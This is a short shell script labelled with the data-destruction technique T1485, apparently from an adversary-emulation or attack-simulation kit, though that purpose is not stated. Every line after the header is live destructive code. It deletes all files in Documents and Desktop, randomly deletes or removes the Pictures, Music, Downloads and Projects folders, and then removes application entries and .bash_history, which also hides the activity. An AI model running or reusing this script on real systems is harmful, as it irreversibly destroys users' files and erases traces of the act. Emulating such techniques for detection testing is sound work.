# T1485 by rm and find.
groundwork
find Documents Desktop -type f -delete
for top in Pictures Music Downloads Projects; do
    rnd 0 3
    case $r in 0) find "$top" -type f -delete ;; 1 | 2) rm -rf "$top" ;; esac
done
rm -rf Documents Desktop .local/share/applications .bash_history
